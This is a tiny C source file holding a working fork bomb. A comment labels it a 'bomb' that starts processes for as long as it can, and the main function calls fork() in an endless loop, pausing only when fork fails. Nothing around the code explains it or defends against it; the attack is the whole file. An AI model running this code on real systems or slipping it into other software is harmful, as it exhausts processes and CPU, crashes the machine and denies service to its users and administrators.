/* bomb: starts processes for as long as it can. */
#include <unistd.h>

int main(void) {
    for (;;)
        if (fork() < 0) usleep(100);
}
